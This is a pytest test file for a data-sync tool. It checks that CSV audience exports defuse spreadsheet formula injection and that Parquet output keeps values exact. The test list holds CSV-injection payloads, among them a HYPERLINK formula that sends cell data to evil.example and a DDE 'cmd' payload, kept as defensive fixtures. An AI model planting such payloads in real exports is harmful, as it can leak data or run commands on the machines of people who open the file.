"""Audience files: CSV cells a spreadsheet would run as formulas are made inert, Parquet stays
exact (issue 13, item 1; OWASP's rule against CSV injection)."""

from __future__ import annotations

import csv

import duckdb
import pytest

from syncs.destinations.base import FieldInfo, Row
from syncs.destinations.file import FileDestination
from syncs.spec import SyncSpec

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "Mug\x00=1+1",
]
FIELDS = (
    FieldInfo("user_id", "user_id", "string", "VARCHAR"),
    FieldInfo("product", "product", "string", "VARCHAR"),
    FieldInfo("ltv", "ltv", "number", "DOUBLE"),
)


def write(tmp_path, fmt):
    spec = SyncSpec("aud_cart_abandoners", "file", "user_id", (), format=fmt)
    dest = FileDestination(tmp_path)
    dest.open(spec, FIELDS)
    rows = [
        Row(f"u{i}", {"user_id": f"u{i}", "product": v, "ltv": "-2.5"})
        for i, v in enumerate(HOSTILE)
    ]
    rows.append(Row("u9", {"user_id": "u9", "product": "Tea - green", "ltv": "3"}))
    dest.write_snapshot(spec, rows)
    return dest.path(spec)


def test_csv_cells_that_start_a_formula_are_written_as_text(tmp_path):
    path = write(tmp_path, "csv")
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    products = [r["product"] for r in rows]
    assert products[:-1] == ["'" + v for v in HOSTILE[:-1]] + ["Mug=1+1"]
    assert products[-1] == "Tea - green"  # only the first character matters
    assert b"\x00" not in path.read_bytes()
    assert {r["ltv"] for r in rows} == {"-2.5", "3.0"}  # numbers stay numbers


def test_parquet_keeps_every_value_exact(tmp_path):
    path = write(tmp_path, "parquet")
    products = [
        r[0] for r in duckdb.sql(f"select product from '{path}' order by user_id").fetchall()
    ]
    assert products == [*HOSTILE, "Tea - green"]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_folder_with_a_quote_in_its_name_is_written(tmp_path, fmt):
    folder = tmp_path / "o'brien's audiences"
    assert write(folder, fmt).exists()
